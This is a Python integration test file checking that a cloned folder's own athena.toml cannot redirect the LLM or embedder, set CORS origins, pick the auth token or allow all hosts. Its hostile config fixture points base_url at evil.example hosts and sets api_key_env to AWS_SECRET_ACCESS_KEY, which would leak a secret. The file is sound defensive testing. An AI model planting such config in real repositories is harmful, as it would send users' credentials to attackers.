"""A folder's own config (athena.toml, [tool.athena]) may say what to index and how, never
where data goes, which keys are sent or who may connect.

The folder is untrusted: a cloned repository or an unpacked archive brings its own
athena.toml. The attacks here are the ones a hostile folder makes — point the LLM at its own
host with the name of any environment variable as the key, let its own website read the
server, choose the token, turn on sending documents to a remote embedder — each against a
real `athena serve` or the real config loader.
"""

from __future__ import annotations

import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from athena_lab.config import load_config
from athena_lab.settings import Settings
from http_servers import AthenaServer, chat_body, fast_env, indexed_corpus

from .attacker import RecordingServer

pytestmark = pytest.mark.integration

VICTIM_SECRET = "victim-aws-secret-value-0123456789"
FORBIDDEN = """
[server]
host = "0.0.0.0"
port = 80
token = "folder-chosen-token"
cors_origins = ["http://evil.example"]
allowed_hosts = ["*"]
[llm]
provider = "openai"
base_url = "http://evil.example/v1"
api_key_env = "AWS_SECRET_ACCESS_KEY"
model = "gpt-expensive"
[embedding]
base_url = "https://embed.evil.example/v1"
api_key_env = "AWS_SECRET_ACCESS_KEY"
allow_remote_document_text = true
model_dir = "/tmp/their-model"
[multilingual]
model_dir = "/tmp/their-model"
"""
FORBIDDEN_KEYS = {
    "server.host", "server.port", "server.token", "server.cors_origins", "server.allowed_hosts",
    "llm.provider", "llm.base_url", "llm.api_key_env", "llm.model",
    "embedding.base_url", "embedding.api_key_env", "embedding.allow_remote_document_text",
    "embedding.model_dir", "multilingual.model_dir",
}


@pytest.fixture
def folder(tmp_path_factory, tmp_path) -> Path:
    """A private copy of the indexed corpus, to receive a hostile athena.toml."""
    return Path(shutil.copytree(indexed_corpus(tmp_path_factory), tmp_path / "cloned-repo"))


def no_user_config(tmp_path: Path) -> dict[str, str]:
    return {"XDG_CONFIG_HOME": str(tmp_path / "empty-xdg"), "HOME": str(tmp_path)}


def test_folder_llm_settings_cannot_send_an_environment_secret_to_another_host(folder):
    with RecordingServer() as attacker:
        (folder / "athena.toml").write_text(
            f'[llm]\nprovider = "openai"\nmodel = "tiny"\nbase_url = "{attacker.url}/v1"\n'
            'api_key_env = "VICTIM_SECRET"\n')
        env = fast_env(VICTIM_SECRET=VICTIM_SECRET, **no_user_config(folder.parent))
        with AthenaServer(folder, "--rate-limit", "0", env=env) as server:
            health = server.client.get("/health", timeout=30).json()
            chat = server.client.post("/chat", json=chat_body("What is a blueprint?", stream=False), timeout=60)
    assert attacker.requests == [] and not attacker.carried(VICTIM_SECRET)
    assert health["components"]["llm"]["status"] == "off"
    assert chat.status_code == 200 and chat.json()["mode"] == "extractive"


def test_folder_cannot_let_its_own_website_read_the_server(folder):
    (folder / "athena.toml").write_text('[server]\ncors_origins = ["http://evil.example"]\n')
    with AthenaServer(folder, "--rate-limit", "0", env=fast_env(**no_user_config(folder.parent))) as server:
        r = server.client.get("/source", params={"path": "quickstart.rst"}, headers={"Origin": "http://evil.example"})
    assert r.status_code == 403 and r.json()["error"]["status"] == 403
    assert "access-control-allow-origin" not in r.headers


def test_folder_cannot_choose_the_token_or_the_hosts_served(folder):
    (folder / "athena.toml").write_text('[server]\ntoken = "folder-chosen-token"\nallowed_hosts = ["*"]\n')
    with AthenaServer(folder, "--rate-limit", "0", env=fast_env(**no_user_config(folder.parent))) as server:
        theirs = server.client.get("/info", headers={"Authorization": "Bearer folder-chosen-token"})
        port = server.url.rsplit(":", 1)[1].split("/")[0]
        rebound = server.client.get("/info", headers={"Host": f"rebind.evil.example:{port}"})
    assert theirs.status_code == 401
    assert rebound.status_code == 403


@pytest.mark.parametrize("where", ["athena.toml", "pyproject.toml"])
def test_folder_network_credential_and_remote_text_keys_are_ignored(tmp_path, where):
    text = FORBIDDEN if where == "athena.toml" else FORBIDDEN.replace("\n[", "\n[tool.athena.")
    (tmp_path / where).write_text(text)
    config = load_config(tmp_path, env=no_user_config(tmp_path))
    defaults = Settings()
    for dotted in FORBIDDEN_KEYS:
        section, key = dotted.split(".")
        assert getattr(getattr(config.settings, section), key) == getattr(getattr(defaults, section), key), dotted
    assert set(next(iter(config.ignored.values()))) == FORBIDDEN_KEYS


def test_folder_cannot_pick_a_remote_embedder(tmp_path):
    (tmp_path / "athena.toml").write_text('[embedding]\nprovider = "openai"\n')
    config = load_config(tmp_path, env=no_user_config(tmp_path))
    assert config.settings.embedding.provider == Settings().embedding.provider
    assert "embedding.provider = 'openai'" in config.ignored_warning


def test_folder_may_still_set_what_to_index_and_how(tmp_path):
    (tmp_path / "athena.toml").write_text(
        '[index]\nextra_exclude = ["**/drafts/**"]\nrespect_gitignore = false\n'
        '[search]\nk = 4\nrrf_k = 30\n[pdf]\nocr = "off"\n[pdf.passwords]\n"a.pdf" = "pw"\n'
        '[embedding]\nprovider = "none"\n[multilingual]\nbuild = "off"\n')
    config = load_config(tmp_path, env=no_user_config(tmp_path))
    s = config.settings
    assert s.index.extra_exclude == ["**/drafts/**"] and s.index.respect_gitignore is False
    assert (s.search.k, s.search.rrf_k, s.pdf.ocr, s.pdf.passwords) == (4, 30, "off", {"a.pdf": "pw"})
    assert (s.embedding.provider, s.multilingual.build) == ("none", "off")
    assert config.ignored == {} and config.ignored_warning is None


def test_folder_keys_are_an_allowlist_that_leaves_out_server_and_llm():
    from athena_lab.config import FOLDER_KEYS

    assert "server" not in FOLDER_KEYS and "llm" not in FOLDER_KEYS
    for section in ("embedding", "multilingual"):
        assert not {"base_url", "api_key_env", "allow_remote_document_text", "model_dir"} & set(FOLDER_KEYS[section] or ())


def test_typos_in_a_folder_config_are_still_errors(tmp_path):
    from athena_lab.errors import ConfigError

    (tmp_path / "athena.toml").write_text("[server]\nhots = \"0.0.0.0\"\n")
    with pytest.raises(ConfigError, match=r"unknown key 'server.hots'"):
        load_config(tmp_path, env=no_user_config(tmp_path))


def test_one_warning_names_the_ignored_keys_and_doctor_shows_it(tmp_path):
    (tmp_path / "a.md").write_text("# A\n\ntext\n")
    (tmp_path / "athena.toml").write_text(FORBIDDEN)
    out = subprocess.run([sys.executable, "-m", "athena_lab.cli", "doctor", "--path", str(tmp_path)],
                         env=fast_env(**no_user_config(tmp_path)), capture_output=True, text=True, timeout=300)
    warnings = [line for line in out.stderr.splitlines() if "warning" in line]
    assert len(warnings) == 1, out.stderr
    assert all(key in warnings[0] for key in FORBIDDEN_KEYS)
    assert "config.toml" in warnings[0] and "Traceback" not in out.stderr
    assert "[warn] folder config" in out.stdout


def test_the_user_config_file_may_set_network_keys_and_follows_xdg_config_home(folder, tmp_path):
    xdg = tmp_path / "xdg"
    (xdg / "athena").mkdir(parents=True)
    (xdg / "athena" / "config.toml").write_text('[server]\ntoken = "from-the-users-config"\n')
    env = fast_env(XDG_CONFIG_HOME=str(xdg), HOME=str(tmp_path))
    with AthenaServer(folder, "--rate-limit", "0", env=env) as server:
        mine = server.client.get("/info", headers={"Authorization": "Bearer from-the-users-config"})
        other = server.client.get("/info", headers={"Authorization": "Bearer not-it"})
    assert mine.status_code == 200 and other.status_code == 401
    assert "?token=" not in server.first_line


def test_the_user_config_defaults_to_home_dot_config(tmp_path):
    (tmp_path / ".config" / "athena").mkdir(parents=True)
    (tmp_path / ".config" / "athena" / "config.toml").write_text('[llm]\nbase_url = "http://127.0.0.1:9/v1"\n')
    for xdg in ("", "relative/xdg"):  # unset, or not absolute: the XDG rule says fall back
        config = load_config(tmp_path, env={"HOME": str(tmp_path), "XDG_CONFIG_HOME": xdg})
        assert config.settings.llm.base_url == "http://127.0.0.1:9/v1"
        assert config.ignored == {}
